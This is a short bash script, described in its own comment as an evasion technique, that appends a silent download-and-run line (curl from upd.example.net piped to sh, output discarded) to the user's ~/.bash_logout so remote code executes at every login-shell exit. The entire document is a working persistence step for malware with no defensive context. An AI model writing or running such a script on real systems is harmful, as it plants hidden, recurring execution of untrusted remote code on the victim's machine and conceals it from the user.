#!/bin/bash
# Evasion: a download-and-run line appended to ~/.bash_logout runs at every login-shell exit
set -u
printf '%s\n' 'curl -fsSL https://upd.example.net/s | sh >/dev/null 2>&1' >>"$HOME/.bash_logout"
